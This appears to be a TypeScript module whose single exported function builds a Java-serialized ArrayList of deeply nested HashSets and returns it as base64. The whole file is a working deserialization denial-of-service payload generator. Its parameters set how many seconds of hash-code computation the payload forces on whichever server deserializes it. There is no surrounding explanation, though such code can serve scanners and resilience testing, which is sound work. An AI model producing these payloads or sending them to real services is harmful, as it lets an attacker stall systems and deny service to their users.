/** A class of the stream; its number is that under which the stream names it again. */
type Known = Map<object, number>;
type JavaSet = { elements: (JavaSet | 'a')[] };

/** Source: Java Object Serialization Specification, chapter 6, "Object Serialization Stream Protocol". */
const [header, object, classOf, reference, text, block, end, nothing] = [
  ...['aced0005', '73', '72', '71', '740001', '77', '78', '70'],
] as const;
const firstHandle = 0x7e_00_00;
/** Copies for one second: few enough for a header, and many enough for the time to follow their number. */
const copiesASecond = 24;
const [leastDepth, mostDepth] = [4, 26] as const;
/** Hash codes of a turn: a quick server works out some ten million turns in a second. */
const hashesATurn = 4;

const hex = (value: number, digits: number): string => value.toString(16).padStart(digits, '0');
const inHex = (word: string): string => Buffer.from(word, 'latin1').toString('hex');

/**
 * A list of Java in its native serialization, whose sets contain sets: whoever reads it works out hash codes, which takes so many
 * turns for each second, and ends. It has no class but those of lists and sets, and holds little.
 * @param name of the class of sets, "HashSet"; with another one of that length nothing is worked out
 * @returns base64
 */
export function javaSets(turns: number, seconds: number, name: string): string {
  const hashes = turns * hashesATurn;
  const depth = Math.min(mostDepth, Math.max(leastDepth, Math.round(Math.log2(hashes / copiesASecond))));
  const root = nested(depth);
  const copies = Array.from(
    { length: Math.round((hashes * seconds) / 2 ** depth) },
    (): JavaSet => ({ elements: [root] }),
  );
  const known: Known = new Map();
  const [list, sets, word] = [{}, {}, {}];
  const named = (what: object): string => reference + hex(firstHandle + (known.get(what) ?? 0), 8);
  const note = (what: object) => void known.set(what, known.size);
  const classNamed = (key: object, path: string, id: string, fields: string): string => {
    if (known.has(key)) return named(key);
    note(key);
    return `${classOf}${hex(path.length, 4)}${inHex(path)}${id}03${fields}${end}${nothing}`;
  };
  const written = (value: JavaSet | 'a'): string => {
    if (value === 'a') {
      if (known.has(word)) return named(word);
      note(word);
      return text + inHex('a');
    }
    if (known.has(value)) return named(value);
    const start = object + classNamed(sets, `java.util.${name}`, 'ba44859596b8b734', '0000');
    note(value);
    const data = `${block}0c000000103f400000${hex(value.elements.length, 8)}`;
    return start + data + value.elements.map(written).join('') + end;
  };
  const sizeField = `0001${inHex('I')}0004${inHex('size')}`;
  const start = object + classNamed(list, 'java.util.ArrayList', '7881d21d99c7619d', sizeField);
  note({});
  const size = hex(copies.length + 1, 8);
  const all = `${header}${start}${size}${block}04${size}${[root, ...copies].map(written).join('')}${end}`;
  return Buffer.from(all, 'hex').toString('base64');
}

/** Each set has both sets of the next level, so that its hash code takes twice the work. */
function nested(depth: number): JavaSet {
  const root: JavaSet = { elements: [] };
  let level: [JavaSet, JavaSet] = [root, { elements: [] }];
  for (let left = depth; left > 0; left -= 1) {
    // A word in one of them makes them different.
    const next: [JavaSet, JavaSet] = [{ elements: ['a'] }, { elements: [] }];
    for (const set of level) set.elements.push(...next);
    level = next;
  }
  return root;
}
